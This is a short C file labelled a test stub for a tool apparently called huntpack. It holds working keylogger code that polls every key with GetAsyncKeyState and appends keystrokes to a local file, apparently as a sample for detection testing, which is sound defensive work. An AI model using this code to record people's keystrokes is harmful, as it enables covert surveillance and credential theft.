/* huntpack test stub: polls the keyboard with GetAsyncKeyState. Never run by the tests. */
#include <windows.h>
#include <stdio.h>

int main(void)
{
    FILE *log = fopen("keys.txt", "ab");
    for (int round = 0; round < 1000 && log != NULL; round++) {
        for (int key = 8; key < 256; key++) {
            if (GetAsyncKeyState(key) & 1) {
                fputc(key, log);
            }
        }
        Sleep(10);
    }
    if (log != NULL) {
        fclose(log);
    }
    return 0;
}
